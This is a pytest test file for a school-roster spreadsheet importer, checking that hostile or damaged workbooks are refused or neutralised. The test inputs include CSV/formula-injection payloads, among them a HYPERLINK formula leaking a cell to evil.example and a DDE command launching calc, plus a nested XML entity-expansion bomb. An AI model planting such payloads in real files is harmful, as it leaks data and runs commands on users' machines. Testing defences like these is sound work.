"""Hostile and damaged workbooks (issue 16): formulas never go back to the school live, the stored
dimension is not trusted, a sheet too wide is refused quickly, bad or entity-laden XML is a refusal,
and an --export-refused path that cannot be written is refused before anything is saved."""

from __future__ import annotations

import re
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from clerk_app.importing.reading import MAX_COLUMNS, ImportRefused
from clerk_app.importing.service import REFUSED, ImportService
from tests.conftest import Cli
from tests.importing.lists import HEADINGS, person, row, write_csv, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]


def _rewrite(path: Path, member: str, change: Callable[[str], str]) -> Path:
    """The workbook with one XML part changed, as a hostile or careless tool would leave it."""
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts[member] = change(parts[member].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def _good_rows(count: int) -> list[list[object]]:
    return [HEADINGS, *(row(n, f"学员{n}", person(300 + n), f"JL-{n:04d}") for n in range(1, count + 1))]


def test_formula_cells_go_back_to_the_school_as_text(tmp_path: Path, importer: ImportService) -> None:
    lines = [HEADINGS, *([n, value, value, "B2", "full", "x", value, "", "", "", value] for n, value in enumerate(FORMULAS, 1))]
    sheet = importer.read(write_csv(tmp_path / "list.csv", lines, "utf-8"))
    preview = importer.preview(sheet, importer.columns_for(sheet))
    assert all(r.outcome == REFUSED for r in preview.rows)
    out = tmp_path / "refused.xlsx"
    assert importer.export_refused(preview, out) == len(FORMULAS)
    book = load_workbook(out)  # not data_only: a formula would show as a formula here
    cells = [cell for line in book.active.iter_rows() for cell in line if cell.value is not None]  # type: ignore[union-attr]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert set(FORMULAS) <= values
    with zipfile.ZipFile(out) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_a_stored_dimension_smaller_than_the_data_loses_no_row(tmp_path: Path, importer: ImportService) -> None:
    path = write_xlsx(tmp_path / "short.xlsx", _good_rows(40))
    _rewrite(path, "xl/worksheets/sheet1.xml", lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:I2"', xml))
    sheet = importer.read(path)
    assert [number for number, _ in sheet.rows] == list(range(2, 42))


def test_a_huge_stored_dimension_finishes_fast_with_a_message(tmp_path: Path, importer: ImportService) -> None:
    path = write_xlsx(tmp_path / "huge.xlsx", _good_rows(3))
    _rewrite(path, "xl/worksheets/sheet1.xml", lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml))
    sheet = importer.read(path)  # the claim alone changes nothing
    assert len(sheet.rows) == 3 and len(sheet.headings) == len(HEADINGS)
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    _rewrite(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace("</sheetData>", far, 1))
    assert path.stat().st_size < 10_000
    started = time.monotonic()
    with pytest.raises(ImportRefused) as refused:
        importer.read(path)
    assert time.monotonic() - started < 10
    found = refused.value.problems[0]
    assert found.code == "import_too_many_columns" and str(MAX_COLUMNS) in found.message_zh and "16384" in found.message_zh


def test_a_sheet_too_wide_is_refused_with_a_message(tmp_path: Path, importer: ImportService) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for column, heading in enumerate(HEADINGS, start=1):
        sheet.cell(row=1, column=column, value=heading)
    sheet.cell(row=2, column=1, value=1)
    sheet.cell(row=2, column=MAX_COLUMNS + 1, value="far away")
    path = tmp_path / "wide.xlsx"
    workbook.save(path)
    with pytest.raises(ImportRefused) as refused:
        importer.read(path)
    assert refused.value.problems[0].code == "import_too_many_columns"
    wide_csv = write_csv(tmp_path / "wide.csv", [HEADINGS, ["1", *([""] * 500), "far away"]], "utf-8")
    with pytest.raises(ImportRefused) as refused:
        importer.read(wide_csv)
    assert refused.value.problems[0].code == "import_too_many_columns"


def test_a_csv_field_over_the_size_limit_is_refused_not_a_crash(tmp_path: Path, cli_with_institutions: Cli) -> None:
    path = write_csv(tmp_path / "big.csv", [HEADINGS, ["1", "a" * 200_000]], "utf-8")
    result = cli_with_institutions("import", str(path), "--dry-run", "--json")
    assert result.code == 2 and result.json["errors"][0]["code"] == "file_unreadable", result.out
    assert "CSV 格式错误" in result.json["errors"][0]["message"]


BAD_XML = {
    "undefined entity": lambda xml: xml.replace("<sheetData>", "<sheetData>&nowhere;", 1),
    "entity expansion": lambda xml: xml.replace(
        "?>",
        '?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
        1,
    ).replace("<sheetData>", "<sheetData><row r=\"99\"><c r=\"A99\" t=\"inlineStr\"><is><t>&d;</t></is></c></row>", 1),
    "mismatched tag": lambda xml: xml.replace("</sheetData>", "</sheetDatum>", 1),
}


@pytest.mark.parametrize("damage", list(BAD_XML))
def test_bad_xml_in_a_workbook_is_refused_in_chinese(tmp_path: Path, cli_with_institutions: Cli, damage: str) -> None:
    path = _rewrite(write_xlsx(tmp_path / "bad.xlsx", _good_rows(2)), "xl/worksheets/sheet1.xml", BAD_XML[damage])
    result = cli_with_institutions("import", str(path), "--dry-run", "--json")
    assert result.code == 2, result.out
    error = result.json["errors"][0]
    assert error["code"] == "import_unsafe_workbook" and "不安全" in error["message"], error


@pytest.mark.parametrize("where", ["folder", "device", "missing folder"])
def test_an_export_path_that_cannot_be_written_is_refused_before_anything_is_saved(
    tmp_path: Path, cli_with_institutions: Cli, where: str
) -> None:
    cli = cli_with_institutions
    path = write_xlsx(tmp_path / "list.xlsx", [*_good_rows(2), row(9, "坏行", "123", "X-1")])
    if where == "device" and not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    target = {"folder": str(tmp_path), "device": "/dev/full", "missing folder": str(tmp_path / "no" / "out.xlsx")}[where]
    result = cli("import", str(path), "--export-refused", target, "--json")
    assert result.code == 2, result.out
    assert result.json["errors"][0]["code"] == "import_export_unwritable"
    assert "不能把未导入的行保存到" in result.json["errors"][0]["message"]
    assert cli("list", "--json").json["total"] == 0
    assert where != "device" or Path("/dev/full").is_char_device()
